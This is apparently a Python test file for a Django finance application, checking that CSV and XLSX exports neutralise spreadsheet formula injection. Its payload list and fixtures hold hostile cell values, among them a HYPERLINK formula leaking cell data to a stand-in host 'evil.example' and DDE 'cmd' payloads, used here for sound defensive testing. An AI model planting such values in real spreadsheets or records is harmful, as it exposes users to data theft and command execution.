"""Formula injection: every CSV and XLSX export neutralises text that a
spreadsheet would run as a formula, and leaves numbers as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from coparcours.core.exports import csv_lines, safe_cell, workbook_bytes, xlsx_bytes
from coparcours.organisations.models import Role
from tests.finance.conftest import build_money
from tests.finance.test_views import FEC_HEADER, fec_line

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquer")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [-12, 3.5, Decimal("-7.25"), None, "", "Saint-Omer", "a=b", "Jeune n° 3"]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_and_xlsx_writers_neutralise_headers_and_cells():
    rows = [[payload, -12, Decimal("3.50"), 0.25, None] for payload in PAYLOADS]
    text = "".join(csv_lines(["=Nom", "Montant", "Total"], rows)).lstrip("\ufeff")
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert read[0] == ["'=Nom", "Montant", "Total"]
    assert [row[0] for row in read[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[1] for row in read[1:]] == ["-12"] * len(PAYLOADS)
    # a decimal comma, as French spreadsheet software reads a number beside ';'
    assert {tuple(row[2:]) for row in read[1:]} == {("3,50", "0,25", "")}

    sheet = load_workbook(io.BytesIO(xlsx_bytes("Test", ["=Nom", "Montant"], rows))).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "'=Nom"
    # XML stores a carriage return as a line feed; the apostrophe is what matters
    expected = ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]
    assert [row[0] for row in values[1:]] == expected
    assert all(row[1] == -12 for row in values[1:])  # a number, not text
    assert all(sheet.cell(row, 1).data_type == "s" for row in range(1, len(values) + 1))


def test_a_styled_workbook_is_neutralised_when_saved():
    workbook = Workbook()
    workbook.active.append(["=1+1", 5, "ok"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert [cell.value for cell in sheet[1]] == ["'=1+1", 5, "ok"]


@pytest.fixture
def money(db):
    return build_money()


def test_the_invoice_annex_neutralises_site_member_and_youth_names(money):
    gme = money.gme
    gme.member_b.name = PAYLOADS[0]
    gme.member_b.save()
    gme.site_b.name = PAYLOADS[3]
    gme.site_b.save()
    youth = money.stays[0].youth
    youth.last_name = "=cmd|' /C calc'!A0"
    youth.save()
    invoice = money.bill_january()
    client = money.client(gme.member_b, Role.FINANCE_OFFICER)
    response = client.get(f"/finances/factures/{invoice.pk}/annexe.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    texts = [value for row in rows for value in row if isinstance(value, str)]
    assert "'" + PAYLOADS[0] in texts and "'" + PAYLOADS[3] in texts
    assert any(text.startswith("'=CMD") or text.startswith("'=cmd") for text in texts)
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    assert any(isinstance(row[7], int) and row[7] > 0 for row in rows)  # days stay numbers


def test_the_administrative_account_neutralises_imported_labels(money):
    client = money.client(money.gme.lead, Role.FINANCE_OFFICER)
    fec = FEC_HEADER + fec_line(1, "20240131", "641100", "=HYPERLINK(1)", "1000,00", "0,00")
    fec += fec_line(1, "20240131", "512000", "Banque", "0,00", "1000,00")
    upload = SimpleUploadedFile("FEC2024.txt", fec.encode())
    response = client.post(
        "/finances/balances/",
        {"organisation": money.gme.lead.pk, "year": "2024", "source": "fec", "file": upload},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    xlsx = client.get("/finances/compte-administratif.xlsx?annee=2024")
    workbook = load_workbook(io.BytesIO(xlsx.content))
    texts = [
        value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if isinstance(value, str)
    ]
    assert "'=HYPERLINK(1)" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
